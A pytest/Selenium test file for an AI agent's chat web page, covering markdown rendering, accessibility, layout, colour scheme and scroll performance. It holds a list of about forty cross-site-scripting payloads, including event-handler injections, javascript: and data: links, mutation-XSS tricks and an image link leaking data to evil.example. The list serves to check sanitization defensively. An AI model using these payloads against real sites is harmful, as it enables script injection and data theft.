"""The chat page's looks: markdown and what is kept out of it, access by keyboard and screen reader, colours, speed."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.keys import Keys

from tests.support import browser
from tests.support.page import Page, assistant, barriers, talk, user
from tools.emulation.model import calls, says, tool_then_answer

MARKDOWN = """# Prices

Some **strong**, *soft* and `code`, a [link](https://example.com/a?b=c) and https://example.org.

| item | price |
|---|---:|
| apples | 1.20 |

1. first
2. second
   - nested

> quoted

```python
def total(prices):
    return sum(prices) < 3 and "<b>"
```

- [x] done
"""


def test_markdown_is_rendered_while_it_is_spoken_and_when_it_is_loaded(page: Page) -> None:
    """Headings, tables, lists, quotes, links and code have their elements, live and after a reload."""
    page.model.reply = lambda _: says(MARKDOWN)
    page.converses("Show me.")
    for _ in ("live", "loaded"):
        assert page.texts(".assistant h1") == ["Prices"]
        assert page.texts(".assistant strong, .assistant p em, .assistant p code") == ["strong", "soft", "code"]
        assert page.run("return getComputedStyle(document.querySelector('td + td')).textAlign") == "right"
        assert page.texts(".assistant ol > li")[0] == "first"
        assert page.texts(".assistant blockquote") == ["quoted"]
        assert page.texts(".code pre") == ['def total(prices):\n    return sum(prices) < 3 and "<b>"']
        links = [link.get_attribute("href") for link in page.all(".assistant a")]
        assert links == ["https://example.com/a?b=c", "https://example.org/"]
        for link in page.all(".assistant a"):
            assert link.get_attribute("target") == "_blank"
            assert "noopener" in str(link.get_attribute("rel"))
        page.open()
    assert page.complaints() == []


def test_code_is_copied_by_a_button(page: Page) -> None:
    """Copy takes the code as it was written, without its frame."""
    granted = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"], "origin": page.url}
    page.driver.execute_cdp_cmd("Browser.grantPermissions", granted)
    page.model.reply = lambda _: says(MARKDOWN)
    page.converses("Show me.")
    page.press("Copy the code")
    assert page.until(lambda: page.texts(".code button") == ["Copied"])
    copied = page.driver.execute_async_script("navigator.clipboard.readText().then(arguments[0])")
    assert copied == 'def total(prices):\n    return sum(prices) < 3 and "<b>"'


ATTACKS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    "<form><input name=attributes><button formaction=javascript:window.hacked=1>press</button></form>",
    "<a href='javascript:window.hacked=1'>press</a>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<style>*{display:none!important}</style>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<div id=log></div><img name=getElementById><form id=composer>",
    "[press](javascript:window.hacked=1)",
    "[press](JaVaScRiPt:window.hacked=1)",
    "[press](java\tscript:window.hacked=1)",
    "[press](&#106;avascript:window.hacked=1)",
    "[press](data:text/html,<script>window.hacked=1</script>)",
    "[press](vbscript:window.hacked=1)",
    "[press](//evil.example/) [press](#other) [press](/sessions/x)",
    "[press](<javascript:window.hacked=1>)",
    "[press][1]\n\n[1]: javascript:window.hacked=1",
    "<javascript:window.hacked=1>",
    "![](https://evil.example/?q=secret)",
    '![x](x" onerror="window.hacked=1)',
    "![x](javascript:window.hacked=1)",
    '[x](https://e.example/"onmouseover="window.hacked=1)',
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "``` <img/src/onerror=window.hacked=1>\ncode\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <svg onload=window.hacked=1> |",
    "<<script>script>window.hacked=1</script>",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
    "<template><img src=x onerror=window.hacked=1></template>",
    '<p style="position:fixed;inset:0" onclick=window.hacked=1 class=primary id=send>x</p>',
    "1. a\n\n   <img src=x onerror=window.hacked=1>\n\n> <svg onload=window.hacked=1>",
    "<!--><img src=x onerror=window.hacked=1>-->",
    "<xmp><img src=x onerror=window.hacked=1></xmp>",
]

TAGS = (
    "P BR HR H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG DEL A TABLE THEAD TBODY TR TH TD DIV SPAN BUTTON"
)
FORBIDDEN = (
    "const tags = new Set(arguments[0].split(' '));"
    "const attributes = (node) => [...node.attributes].some(({ name }) => /^on|^style$|^id$|^name$|^src/.test(name));"
    "const leads = (node) => /^(https?:\\/\\/|mailto:)/.test(node.getAttribute('href'));"
    "const bad = (node) => !tags.has(node.nodeName) || attributes(node) || (node.hasAttribute('href') && !leads(node));"
    "return [...document.querySelectorAll('#log .text *')].filter(bad).map((node) => node.outerHTML);"
)
"""A script that gives all elements of messages that markdown has no need of."""


def test_nothing_gets_in_by_markdown(page: Page) -> None:
    """Of a corpus of attacks, said by the model, shown live and loaded, nothing runs, loads, or is more than text."""
    page.model.reply = lambda _: says("\n\n".join(ATTACKS))
    page.converses("Attack.")
    for _ in ("live", "loaded"):
        assert page.run(FORBIDDEN, TAGS) == []
        for link in page.all("#log .text a[href]"):
            assert str(link.get_attribute("href")).startswith(("https://", "mailto:"))
        time.sleep(0.2)
        assert page.run("return window.hacked") is None
        assert page.run("return document.querySelectorAll('#composer, #log').length") == 2
        assert page.complaints() == []
        page.open()


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_gets_in_by_any_one_of_them(page: Page, attack: str) -> None:
    """Each attack alone, so that none is hidden by another's unclosed element."""
    page.seed([user("Attack."), assistant(attack)])
    page.open()
    assert page.run(FORBIDDEN, TAGS) == []
    assert page.run("return window.hacked") is None
    assert page.complaints() == []


MARKUP = ATTACKS[1] + ATTACKS[0] + "<b>bold</b>"


def test_markup_of_people_and_tools_is_text(page: Page) -> None:
    """What a person says, a tool is given or returns, and a title made of it, is shown letter by letter."""

    def reply(messages: list[dict[str, Any]]) -> dict[str, Any]:
        if messages[-1]["role"] == "tool":
            return says("Done.")
        return calls("issue_refund", f"call_{len(messages)}", order=MARKUP, amount=1)

    page.model.reply = reply
    page.send(MARKUP)
    page.sees("May the agent call", ".ask")
    page.press("Approve issue_refund")
    page.sees("Done.", ".assistant")
    page.settles()
    for _ in ("live", "loaded"):
        assert page.said[0] == MARKUP
        given = page.run("return document.querySelector('.tool pre').textContent")
        assert json.loads(given) == {"order": MARKUP, "amount": 1}
        assert page.all("#log img, #log script, nav img, header img, h1 b") == []
        assert page.run("return window.hacked") is None
        with pytest.raises(NoAlertPresentException):
            _ = page.driver.switch_to.alert
        page.open()


def wants_a_refund(messages: list[dict[str, Any]]) -> dict[str, Any]:
    if messages[-1]["role"] == "tool":
        return says("Done.")
    return calls("issue_refund", f"call_{len(messages)}", order="A-1", amount=19.9)


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nobody_is_kept_out(page: Page, axe: str, width: int, scheme: str) -> None:
    """Empty, with markdown, a tool, an editor, a card, an error, a dialog and the list: axe-core finds nothing."""
    page.resize(width, 820, scheme)
    assert barriers(page, axe) == []
    page.model.reply = lambda _: says(MARKDOWN)
    page.converses("Show me.")
    page.model.reply = tool_then_answer("calculate", expression="6 * 7")
    page.converses("What is 6 * 7?")
    page.all(".tool summary")[0].click()
    assert barriers(page, axe) == []
    page.run("document.querySelector('[aria-label^=Edit]').click()")
    assert barriers(page, axe) == []
    page.one(".editing textarea").send_keys(Keys.ESCAPE)
    page.model.refuse = True
    page.send("Fail.")
    page.sees("The model gave no answer", ".failed")
    page.model.refuse = False
    assert barriers(page, axe) == []
    page.model.reply = wants_a_refund
    page.send("Refund it.")
    page.sees("May the agent call issue_refund?", ".ask")
    assert barriers(page, axe) == []
    if width < 700:
        page.press("Conversations")
    page.run("document.querySelector('#list [aria-label^=Delete]').click()")
    assert barriers(page, axe) == []


def test_everything_can_be_reached_with_the_keyboard(page: Page) -> None:
    """Tab reaches every control that can be seen, in order, and leaves none without a sign of its focus."""
    page.model.reply = wants_a_refund
    page.send("Refund it.")
    page.sees("May the agent call issue_refund?", ".ask")
    page.driver.switch_to.active_element.send_keys(Keys.TAB, Keys.TAB)  # over what the call is given
    assert page.driver.switch_to.active_element.accessible_name == "Approve issue_refund"
    page.driver.switch_to.active_element.send_keys(Keys.ENTER)
    page.sees("Done.", ".assistant")
    assert page.until(lambda: page.driver.switch_to.active_element.get_attribute("id") == "message")
    page.one("#search").send_keys("refund it")  # a short list
    assert page.until(lambda: page.all("#list a") and all(name.startswith("Refund") for name in page.texts("#list a")))
    names = set()
    for _ in range(50):
        page.driver.switch_to.active_element.send_keys(Keys.TAB)
        names.add(page.driver.switch_to.active_element.accessible_name)
    wanted = {"New conversation", "Search the titles", "Copy the session id", "Edit the message", "Answer again"}
    assert names >= wanted | {"Attach files", "Send", "Rename Refund it.", "Delete Refund it."}, names


@pytest.mark.parametrize(("width", "height"), [(1280, 820), (390, 780)])
def test_the_window_itself_never_scrolls(page: Page, width: int, height: int) -> None:
    """However long the conversation, the document is as large as the window: only the log scrolls."""
    page.resize(width, height)
    page.seed(talk(60))
    page.open()
    page.run("window.scrollTo(0, 100000)")
    assert page.run("return [scrollX, scrollY]") == [0, 0]
    size = page.run("const root = document.documentElement; return [root.scrollWidth, root.scrollHeight]")
    assert size == [width, height]
    log = page.run("const log = document.getElementById('scroll'); return [log.scrollWidth, log.clientWidth]")
    assert log[0] == log[1]


def test_an_edited_message_has_the_whole_column_on_a_narrow_screen(page: Page) -> None:
    """The field to edit in is as wide as the answers, at any width."""
    page.converses("Hello")
    for width in (390, 1280):
        page.resize(width, 820)
        page.run("document.querySelector('[aria-label^=Edit]').click()")
        box = "const box = document.querySelector(arguments[0]).getBoundingClientRect(); return [box.left, box.right]"
        assert page.run(box, ".editing form") == page.run(box, ".assistant")
        page.one(".editing textarea").send_keys(Keys.ESCAPE)


def test_a_phone_is_told_nothing_of_keys(page: Page) -> None:
    """Where a finger points, there is no Shift+Enter to tell of; elsewhere it is told."""
    assert page.hint.startswith("Enter sends")
    with browser.browser() as driver:
        phone = Page(driver, page.url, page.session_id, page.model, page.stage)
        driver.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": True})
        size = {"width": 390, "height": 820, "deviceScaleFactor": 1, "mobile": True}
        driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
        driver.get(phone.address)
        assert phone.run("return matchMedia('(pointer: coarse)').matches")
        phone.sees("What can I do for you?", "#empty")
        phone.send("Hello")
        phone.sees("You said: Hello", ".assistant")
        assert phone.until(lambda: phone.hint == ""), phone.hint


def test_the_search_says_what_it_searches(page: Page) -> None:
    """Only titles are searched, and the field says so to everybody."""
    assert page.one("#search").get_attribute("placeholder") == "Search titles"


def test_dark_colours_are_used_where_they_are_asked_for(page: Page) -> None:
    """The page follows the scheme of the system."""
    seen = set()
    for scheme in ("light", "dark"):
        page.resize(1280, 820, scheme)
        seen.add(page.run("return getComputedStyle(document.body).backgroundColor"))
    assert seen == {"rgb(247, 248, 248)", "rgb(16, 21, 20)"}


MEASURE = """
const done = arguments[0], frames = [];
const scroller = document.getElementById('scroll'), field = document.getElementById('message');
let last = performance.now(), count = 0;
function frame(now) {
  frames.push(now - last); last = now;
  scroller.scrollTop = scroller.scrollHeight * (1 - (count % 60) / 60);
  field.value = 'x'.repeat(count % 40);
  field.dispatchEvent(new Event('input', {bubbles: true}));
  if (++count < 180) requestAnimationFrame(frame); else done(frames.slice(5).sort((a, b) => a - b));
}
requestAnimationFrame(frame);
"""


def test_300_turns_stay_smooth(page: Page, capsys: pytest.CaptureFixture[str]) -> None:
    """With 300 turns of markdown on the page, scrolling and typing keep up: a frame takes its thread 25 ms at most.

    Counted is the time that the page's thread has a processor: how long a frame lasts depends on the machine's other
    work, too, and is only printed.
    """
    page.seed(talk(300, MARKDOWN + "\n\nAnswer {}"))
    began = time.perf_counter()
    page.open()
    opened = time.perf_counter() - began
    began = time.perf_counter()
    assert page.until(lambda: page.run(LOAD_ALL), 60)
    loaded = time.perf_counter() - began
    assert page.run("return document.querySelectorAll('.turn').length") == 300
    page.driver.execute_cdp_cmd("Performance.enable", {"timeDomain": "threadTicks"})
    busy = page_seconds(page)
    frames = page.driver.execute_async_script(MEASURE)
    work = (page_seconds(page) - busy) / len(frames) * 1000
    began = time.perf_counter()
    page.converses("One more.")
    answered = time.perf_counter() - began
    median, nine_of_ten, worst = frames[len(frames) // 2], frames[len(frames) * 9 // 10], frames[-1]
    with capsys.disabled():
        print(
            f"\n300 turns: opened {opened:.2f} s, all loaded {loaded:.2f} s, frames median {median:.0f} ms, "
            f"9 of 10 {nine_of_ten:.0f} ms, worst {worst:.0f} ms, work {work:.1f} ms, one more turn {answered:.2f} s"
        )
    assert 0 < work < 25
    assert opened < 10
    assert answered < 10


def page_seconds(page: Page) -> float:
    """How long the page's thread has had a processor, in seconds."""
    metrics = page.driver.execute_cdp_cmd("Performance.getMetrics", {})["metrics"]
    return next(float(metric["value"]) for metric in metrics if metric["name"] == "TaskDuration")


LOAD_ALL = (
    "document.getElementById('scroll').scrollTop = 0;"
    "return document.querySelector('.user .text')?.textContent === 'Question 1'"
)
